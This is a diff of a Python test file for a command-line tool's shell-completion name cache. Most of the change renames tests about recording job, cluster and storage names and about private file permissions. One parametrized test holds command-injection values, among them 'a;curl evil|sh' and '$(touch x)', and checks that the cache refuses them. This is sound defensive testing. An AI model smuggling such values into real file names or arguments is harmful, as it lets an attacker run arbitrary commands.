@@ -1,4 +1,4 @@
-"""The lists for completion: kept by the commands that come across the names."""
+"""The lists of names for completion, which are kept by the commands that see the names."""
 
 from __future__ import annotations
 
@@ -15,7 +15,7 @@ def listed(shell, name):
     return path.read_text().splitlines() if path.exists() else []
 
 
-def test_jobs_are_noted_when_they_are_submitted_listed_and_looked_at(cluster):
+def test_jobs_are_recorded_when_they_are_submitted_listed_or_looked_at(cluster):
     cluster.ok("job.sub", "true", "-j", "noted-1")
     cluster.ok("job.sub", "true", "-j", "noted-2")
     assert listed(cluster, "jobs/local")[:2] == ["noted-2", "noted-1"]
@@ -28,7 +28,7 @@ def test_jobs_are_noted_when_they_are_submitted_listed_and_looked_at(cluster):
     assert listed(cluster, "jobs/local") == ["noted-1"]
 
 
-def test_a_job_that_is_gone_is_forgotten(cluster):
+def test_job_that_no_longer_exists_is_removed_from_the_list(cluster):
     path = cluster.home / "cache" / "names" / "jobs" / "local"
     path.parent.mkdir(parents=True, exist_ok=True)
     path.write_text("gone\nother\n")
@@ -36,7 +36,7 @@ def test_a_job_that_is_gone_is_forgotten(cluster):
     assert listed(cluster, "jobs/local") == ["other"]
 
 
-def test_clusters_are_noted_and_forgotten_with_their_jobs(shell):
+def test_clusters_are_recorded_and_removed_with_their_jobs(shell):
     address = "https://pai.example.org"
     shell.ok("cluster.add", "lab", address, "--user", "ann", "--no-check", "--token", "x")
     shell.ok("cluster.add", "lab-2", address, "--user", "ann", "--no-check", "--token", "x")
@@ -49,25 +49,25 @@ def test_clusters_are_noted_and_forgotten_with_their_jobs(shell):
     assert listed(shell, "jobs/lab") == []
 
 
-def test_templates_are_noted(shell):
+def test_templates_are_recorded(shell):
     shell.ok("job.templates")
     assert "hello" in listed(shell, "templates")
 
 
-def test_the_lists_are_for_the_user_alone(shell):
+def test_lists_are_private_to_the_user(shell):
     shell.ok("cluster.list")
     path = shell.home / "cache" / "names" / "clusters"
     assert stat.S_IMODE(path.stat().st_mode) == 0o600
     assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
 
 
-def test_a_list_that_cannot_be_written_is_no_error(shell):
+def test_list_that_cannot_be_written_is_not_an_error(shell):
     shell.home.mkdir()
     (shell.home / "cache").write_text("a file in the way")
     assert shell.ok("cluster.list").err == ""
 
 
-def test_virtual_clusters_and_paths_are_noted(tmp_path, monkeypatch):
+def test_virtual_clusters_and_paths_are_recorded(tmp_path, monkeypatch):
     monkeypatch.setenv("OPENPAI_HOME", str(tmp_path))
     known_names.note_clusters([Cluster("lab", "https://x", virtual_clusters=("research", "default"))])
     assert (known_names.folder() / "virtual-clusters").read_text() == "default\nresearch\n"
@@ -87,8 +87,8 @@ def test_a_list_stays_short_and_keeps_the_newest(tmp_path, monkeypatch):
 @pytest.mark.parametrize(
     "name", ["a;curl evil|sh", "$(touch x)", "`x`", "a b", "-rf", "a\nb", "a'b", "\ud800", ""]
 )
-def test_a_name_that_a_shell_would_read_as_more_is_not_kept(tmp_path, monkeypatch, name):
-    """A TAB puts what is kept into a command line."""
+def test_name_with_shell_metacharacters_is_not_recorded(tmp_path, monkeypatch, name):
+    """Completion inserts recorded names into a command line."""
     monkeypatch.setenv("OPENPAI_HOME", str(tmp_path))
     known_names.note_storages([name, "team"])
     assert (known_names.folder() / "storages").read_text() == "team\n"
